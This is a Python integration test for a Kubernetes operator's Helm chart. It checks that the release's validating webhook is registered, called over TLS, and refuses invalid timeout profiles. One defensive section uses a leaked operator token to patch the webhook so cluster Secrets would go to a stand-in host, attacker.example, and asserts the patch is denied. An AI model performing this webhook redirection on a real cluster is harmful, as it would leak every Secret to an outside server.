"""`helm install` with the webhook on and profiles in the same release (issue 15, item 5).

The Helm engine renders the chart; real kubectl applies it in Helm's order (CRDs, then
the rest) before any operator runs. The chart's ValidatingWebhookConfiguration is
empty, so the release's own profiles are admitted. Then the operator runs locally as
the chart's ServiceAccount, with the chart's arguments, environment and generated TLS
Secret, and fills the configuration in; from then on the real kube-apiserver calls it
over TLS, trusting it through the caBundle, and refuses a bad profile.

Only the clientConfig differs from a pod: there is no kube-proxy here, so the apiserver
cannot reach a Service; the release sets ``operator.webhook.url`` to the loopback port
(the chart then puts 127.0.0.1 into the generated certificate). The Service form is
checked in test_helm.py and by the server-side dry run below.
"""

from __future__ import annotations

import base64
import dataclasses
import json
import uuid
from pathlib import Path

import pytest
import yaml
from hourglass_operator.settings import OperatorSettings
from hourglass_operator.webhook_config import webhooks

from tests.fixtures.controlplane import ApiError, RealCluster
from tests.fixtures.k8s_schemas import CHART, load_all
from tests.fixtures.operator_process import (
    OperatorProcess,
    _listening,
    check_api_calls,
    free_port,
)
from tests.integration._helm_release import operator_env as _operator_env
from tests.integration._helm_release import render as _render
from tests.integration._resources import _profile

pytestmark = pytest.mark.timeout(180)

CONFIGURATIONS = "validatingwebhookconfigurations"


def test_helm_install_with_webhook_and_profiles_then_the_apiserver_calls_it(
    real_cluster: RealCluster, tmp_path: Path
) -> None:
    namespace = real_cluster.namespace(f"helmhook-{uuid.uuid4().hex[:6]}")
    release = f"hh{uuid.uuid4().hex[:6]}"
    port = free_port()
    values = yaml.safe_load((CHART / "values-prod.yaml").read_text(encoding="utf-8"))
    values["operator"] = values.get("operator", {}) | {
        "webhook": {"enabled": True, "url": f"https://127.0.0.1:{port}"}
    }
    rendered = _render(values, namespace, release)
    # Helm installs crds/ as they are (never templated), before anything else.
    crds = [d for p in sorted((CHART / "crds").rglob("*.yaml")) for d in load_all(p.read_text())]
    assert crds
    unserved = {"ServiceMonitor", "PrometheusRule"}  # no Prometheus operator CRDs here
    rest = [d for docs in rendered.values() for d in docs if d["kind"] not in unserved]
    (configuration,) = [d for d in rest if d["kind"] == "ValidatingWebhookConfiguration"]
    name = configuration["metadata"]["name"]
    # The worst order for the old chart: the configuration first, the profiles after it.
    rest.sort(key=lambda d: d["kind"] in ("TimeoutProfile", "SessionPolicy"))
    assert {"Secret", "TimeoutProfile", "SessionPolicy", "KopfPeering"} <= {d["kind"] for d in rest}

    (tmp_path / "crds.yaml").write_text(yaml.safe_dump_all(crds), encoding="utf-8")
    (tmp_path / "release.yaml").write_text(yaml.safe_dump_all(rest), encoding="utf-8")
    real_cluster.kubectl("apply", "-f", str(tmp_path / "crds.yaml"))
    try:
        # No operator runs yet, and the whole release goes in.
        real_cluster.kubectl("apply", "-f", str(tmp_path / "release.yaml"))
        profiles = {p["metadata"]["name"] for p in real_cluster.list("timeoutprofiles", namespace)}
        assert profiles == set(values["timeoutProfiles"])
        assert not (real_cluster.get(CONFIGURATIONS, None, name) or {}).get("webhooks")

        (secret,) = [d for d in rest if d["kind"] == "Secret" and d["type"] == "kubernetes.io/tls"]
        files = {}
        for key, data in secret["data"].items():
            files[key] = tmp_path / key
            files[key].write_bytes(base64.b64decode(data))
        (deployment,) = [d for d in rest if d["kind"] == "Deployment"]
        pod = deployment["spec"]["template"]["spec"]
        (container,) = pod["containers"]
        args = [a for a in container["args"] if a != "operator" and not a.startswith("--liveness")]
        service_account = f"{namespace}/{pod['serviceAccountName']}"
        mark = real_cluster.audit_mark()
        operator = OperatorProcess(
            real_cluster, *args, name="helmhook", service_account=service_account
        )
        with pytest.MonkeyPatch.context() as patch:
            for key, value in _operator_env(container, files, port).items():
                patch.setenv(key, value)
            operator.start(timeout=60)
        try:
            real_cluster.wait_for(lambda: _listening(port), timeout=30, what="the webhook server")
            registered = real_cluster.wait_for(
                lambda: (real_cluster.get(CONFIGURATIONS, None, name) or {}).get("webhooks"),
                timeout=60,
                what="the operator to fill in its webhook configuration",
            )
            ca = secret["data"]["ca.crt"]
            assert {w["clientConfig"]["url"] for w in registered} == {
                f"https://127.0.0.1:{port}/validate-timeoutprofile",
                f"https://127.0.0.1:{port}/validate-sessionpolicy",
            }
            assert {w["clientConfig"]["caBundle"] for w in registered} == {ca}
            for hook in registered:
                (expression,) = hook["namespaceSelector"]["matchExpressions"]
                assert expression["values"] == [namespace]
                assert hook["failurePolicy"] == "Fail"

            # In a pod the chart gives the Service form instead (no url): the apiserver
            # accepts that configuration too (a server-side dry run: nothing could answer).
            in_pod = dict(_operator_env(container, files, port))
            del in_pod["HOURGLASS_WEBHOOK_URL"]
            in_pod["HOURGLASS_WEBHOOK_SERVICE"] = f"{namespace}/{release}-hourglass-webhook"
            settings = dataclasses.replace(
                OperatorSettings.from_env(in_pod), namespaces=(namespace,)
            ).check()
            patch_body = {"webhooks": webhooks({"caBundle": ca}, settings)}
            real_cluster.kubectl(
                "patch", CONFIGURATIONS, name, "--type=merge", "--dry-run=server",
                "-p", json.dumps(patch_body),
            )  # fmt: skip
            services = {w["clientConfig"]["service"]["name"] for w in patch_body["webhooks"]}
            assert services == {
                d["metadata"]["name"]
                for d in rest
                if d["kind"] == "Service" and "webhook" in d["metadata"]["name"]
            }

            # The apiserver calls the webhook over TLS: a second default profile is refused,
            # with the field named and the refusing webhook named.
            bad = _profile(namespace, "second-default", {"default": True})
            refused = real_cluster.kubectl(
                "apply", "-f", "-", stdin=yaml.safe_dump(bad), check=False
            )
            assert 'admission webhook "validate-timeoutprofile.hourglass.dev" denied' in refused
            assert "spec.default" in refused, refused
            assert real_cluster.get("timeoutprofiles", namespace, "second-default") is None
            good = _profile(
                namespace, "nightly", {"extends": "base", "timeouts": {"request": "5s"}}
            )
            real_cluster.kubectl("apply", "-f", "-", stdin=yaml.safe_dump(good))
            assert real_cluster.get("timeoutprofiles", namespace, "nightly") is not None
        finally:
            operator.stop()
        user = f"system:serviceaccount:{namespace}:{pod['serviceAccountName']}"
        assert real_cluster.forbidden(since=mark, user=user) == []
        calls = real_cluster.operator_calls_since(mark, service_account)
        assert any(c.resource == CONFIGURATIONS and c.verb == "patch" for c in calls), calls
        check_api_calls(real_cluster, "namespaced", calls)

        # Issue 27: a leaked operator token may patch this configuration (RBAC names it),
        # but the chart's policy keeps it to this release's webhook and resources: it
        # cannot have every Secret written in the cluster sent to a server of its choice.
        token = real_cluster.token(pod["serviceAccountName"], namespace)
        secrets = {
            "apiGroups": [""],
            "apiVersions": ["v1"],
            "operations": ["CREATE", "UPDATE"],
            "resources": ["secrets"],
            "scope": "*",
        }
        elsewhere = {**registered[0]["clientConfig"], "url": "https://attacker.example/x"}
        for hook in (
            dict(registered[0], rules=[secrets]),
            dict(registered[0], clientConfig=elsewhere),
        ):
            with pytest.raises(ApiError) as caught:
                real_cluster.request(
                    "PATCH",
                    real_cluster.path(CONFIGURATIONS, None, name),
                    {"webhooks": [hook, *registered[1:]]},
                    content_type="application/merge-patch+json",
                    token=token,
                )
            assert caught.value.status == 403, caught.value
            assert "only its own webhook" in str(caught.value), caught.value
        assert (real_cluster.get(CONFIGURATIONS, None, name) or {}).get("webhooks") == registered
    finally:
        real_cluster.kubectl(
            "delete",
            "--ignore-not-found",
            "--wait=false",
            "-f",
            str(tmp_path / "release.yaml"),
            check=False,
        )
